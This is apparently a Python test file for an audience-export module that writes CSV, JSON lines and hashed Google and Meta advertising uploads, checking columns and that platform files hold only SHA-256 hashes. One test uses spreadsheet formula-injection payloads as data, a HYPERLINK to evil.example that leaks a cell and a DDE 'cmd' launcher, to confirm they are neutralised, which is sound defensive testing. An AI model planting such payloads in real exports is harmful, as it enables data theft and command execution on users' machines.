"""Files say what was asked for; those for advertising platforms hold nothing that is not hashed."""

import csv
import io
import json
from hashlib import sha256

from hypothesis import given
from hypothesis import strategies as st

from shared.domain.audiences.formats import Contact, header, lines

ADA = Contact(
    "p1",
    {"email": ["ada@example.com", "a.d.a@gmail.com"], "phone": ["+8613900001111"]},
    {"city": "上海", "nested": {"a": [1]}, "note": 'says "hello", twice\n'},
)


def written(file_format, fields, *contacts):
    found = [header(file_format, fields)]
    return "".join(found + [line for each in contacts for line in lines(file_format, fields, each)])


def digest(text):
    return sha256(text.encode()).hexdigest()


def test_a_table_has_a_column_for_each_field():
    text = written("csv", ["email", "city", "nested", "note", "gone"], ADA)
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row == {
        "profile_id": "p1",
        "email": "ada@example.com;a.d.a@gmail.com",
        "city": "上海",
        "nested": '{"a":[1]}',
        "note": 'says "hello", twice\n',
        "gone": "",
    }


def test_no_cell_of_a_table_is_run_by_a_spreadsheet_and_telephone_numbers_stay_as_they_are():
    evil = '=HYPERLINK("https://evil.example/?"&A2,"click")'
    eve = Contact(
        "p2",
        {"phone": ["+8613900001111", "+8613900002222"], "user_id": ["u1", "=cmd|'/C calc'!A0"]},
        {"city": evil, "balance": -5, "mobile": "+86 139 0000 3333"},
    )
    text = written("csv", ["phone", "user_id", "city", "balance", "mobile"], eve)
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row == {
        "profile_id": "p2",
        "phone": "+8613900001111;+8613900002222",
        "user_id": "u1;'=cmd|'/C calc'!A0",
        "city": f"'{evil}",
        "balance": "-5",
        "mobile": "+86 139 0000 3333",
    }
    assert json.loads(written("jsonl", ["city"], eve))["city"] == evil


def test_json_lines_keep_the_kinds_of_values():
    assert json.loads(written("jsonl", ["email", "nested", "gone"], ADA)) == {
        "profile_id": "p1",
        "email": ["ada@example.com", "a.d.a@gmail.com"],
        "nested": {"a": [1]},
        "gone": None,
    }


def test_each_platform_gets_a_record_for_each_address():
    assert written("google_customer_match", [], ADA).splitlines() == [
        "Email,Phone",
        f"{digest('ada@example.com')},{digest('+8613900001111')}",
        f"{digest('ada@gmail.com')},",
    ]
    assert written("meta_custom_audience", [], ADA).splitlines() == [
        "email,phone",
        f"{digest('ada@example.com')},{digest('8613900001111')}",
        f"{digest('a.d.a@gmail.com')},",
    ]


def test_a_trait_stands_in_for_an_identifier_only_if_it_is_an_address():
    told = Contact("p1", {}, {"email": "ada@example.com", "phone": "call me"})
    assert written("meta_custom_audience", [], told).splitlines()[1:] == [
        f"{digest('ada@example.com')},"
    ]


def test_who_has_no_address_has_no_line():
    assert list(lines("google_customer_match", [], Contact("p1", {}, {"email": 7}))) == []


@given(
    st.sampled_from(["google_customer_match", "meta_custom_audience"]),
    st.lists(st.emails(), max_size=3),
    st.dictionaries(st.text(min_size=1), st.text()),
)
def test_nothing_plain_is_in_a_file_for_a_platform(file_format, emails, traits):
    contact = Contact("somebody", {"email": emails}, traits)
    found = list(lines(file_format, list(traits), contact))
    cells = [cell for line in found for cell in line.rstrip("\n").split(",")]
    assert all(
        cell == "" or (len(cell) == 64 and set(cell) <= set("0123456789abcdef")) for cell in cells
    )
